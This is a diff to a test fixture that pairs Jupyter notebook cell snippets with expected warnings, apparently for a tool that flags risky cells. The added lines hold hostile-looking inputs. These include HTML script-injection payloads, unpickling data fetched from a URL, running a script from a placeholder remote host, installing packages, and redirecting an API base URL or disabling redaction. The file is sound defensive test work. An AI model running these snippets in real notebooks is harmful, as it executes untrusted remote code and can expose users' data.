@@ -92,7 +92,10 @@ CELLS = {
     "import IPython.display as d\nd.HTML(filename='x.html')": SCRIPT,
     "display({'text/html': page}, raw=True)": SCRIPT,
     "from IPython.display import display_javascript\ndisplay_javascript(x)": SCRIPT,
+    "%%markdown\n<img src=x onerror=a()>": SCRIPT,
+    "from IPython.display import Markdown as M\nM('<script>a()</script>')": SCRIPT,
     # packages
+    "!npm i -g x": "This cell runs a shell and installs packages.",
     "%pip install polars": INSTALLS,
     "%conda install -y polars": INSTALLS,
     "pip install polars": INSTALLS,
@@ -140,6 +143,9 @@ CELLS = {
         SHELL_URL,
     "import base64\nexec(base64.b64decode(x))": "This cell runs code that it unpacks.",
     "import zlib\neval(zlib.decompress(x))": "This cell runs code that it unpacks.",
+    "import pickle, requests\npickle.loads(requests.get(u).content)": FROM_URL,
+    "%run -i 'https://e.example/x.py'": FROM_URL,
+    "%run -m pip install x": "This cell runs another file and installs packages.",
     "%run other.py": "This cell runs another file.",
     "exec(open('x.py').read())": "This cell runs another file.",
     # the rest
@@ -153,6 +159,7 @@ CELLS = {
     "get_ipython().config.Nemotron.update({'redact': False})": SETTINGS,
     "setattr(c.Nemotron, 'redact', False)": SETTINGS,
     "import os\nos.environ['AIMLAPI_API_BASE'] = 'https://e.example'": SETTINGS,
+    "import os\nos.environ |= {'AIMLAPI_API_BASE': x}": SETTINGS,
     "import os\nos.environ.update({'AIMLAPI_API_BASE': x})": SETTINGS,
     "%env NEMOTRON_MAGIC_HOME=/x": SETTINGS,
     "%nemotron why": ASKS,
